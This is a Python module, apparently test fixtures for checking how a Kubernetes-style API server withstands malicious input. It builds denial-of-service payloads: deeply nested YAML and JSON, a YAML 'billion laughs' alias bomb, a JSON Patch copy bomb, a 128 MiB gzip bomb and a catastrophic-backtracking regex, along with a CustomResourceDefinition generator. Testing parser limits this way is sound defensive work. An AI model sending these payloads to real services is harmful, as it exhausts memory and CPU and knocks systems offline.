"""What the attacks send: documents that are small on the wire and large, deep or slow for a naive reader."""

from __future__ import annotations

import json
import zlib
from functools import cache
from typing import Any, Final

__all__ = [
    "BACKTRACKING",
    "DEEP_JSON",
    "DEEP_YAML",
    "SLOW_TEXT",
    "WIDE_YAML",
    "alias_bomb",
    "copy_bomb",
    "definition",
    "gzip_bomb",
]

MIB: Final = 2**20

DEEP_YAML: Final[dict[str, bytes]] = {
    "block": b"- " * 100_000,
    "flow": b"[" * 200_000,
    "mappings": b"{a: " * 60_000,
    "keys": b"? " * 100_000,
    "closed": b"[" * 100_000 + b"]" * 100_000,
}
"""200 kB each. libyaml's composer recurses in C for each level."""

DEEP_JSON: Final[dict[str, bytes]] = {
    "lists": b"[" * 500_000,
    "objects": b'{"a":' * 200_000,
    "closed": b"[" * 200_000 + b"]" * 200_000,
}

WIDE_YAML: Final = b"[" + b"a," * 1_000_000 + b"]"
"""2 MB with a million nodes."""

BACKTRACKING: Final = "^(a+)+$"
"""Exponential for an engine that backtracks, and linear for RE2."""
SLOW_TEXT: Final = "a" * 40 + "!"


def alias_bomb(levels: int = 12) -> bytes:
    """The "billion laughs": each level refers to the one below ten times."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, levels)]
    return "\n".join(lines).encode()


def copy_bomb(operations: int = 40) -> bytes:
    """A JSON Patch in which each operation doubles the object."""
    patch: list[dict[str, Any]] = [{"op": "add", "path": "/data", "value": {"a": "x" * 64}}]
    patch += [{"op": "copy", "from": "/data", "path": f"/data/c{n}"} for n in range(operations)]
    return json.dumps(patch).encode()


@cache
def gzip_bomb(size: int = 128 * MIB) -> bytes:
    """Zeros: a thousandth of their size on the wire."""
    packing = zlib.compressobj(9, wbits=31)
    return b"".join([*(packing.compress(bytes(MIB)) for _ in range(size // MIB)), packing.flush()])


def definition(plural: str, text: dict[str, Any]) -> dict[str, Any]:
    """A CustomResourceDefinition whose `spec.text` has this schema."""
    kind = plural.removesuffix("s").capitalize()
    properties = {"spec": {"type": "object", "properties": {"text": {"type": "string", **text}}}}
    schema = {"openAPIV3Schema": {"type": "object", "properties": properties}}
    return {
        "apiVersion": "apiextensions.k8s.io/v1",
        "kind": "CustomResourceDefinition",
        "metadata": {"name": f"{plural}.attacks.example.com"},
        "spec": {
            "group": "attacks.example.com",
            "scope": "Namespaced",
            "names": {"plural": plural, "singular": plural.removesuffix("s"), "kind": kind, "listKind": f"{kind}List"},
            "versions": [{"name": "v1", "served": True, "storage": True, "schema": schema}],
        },
    }
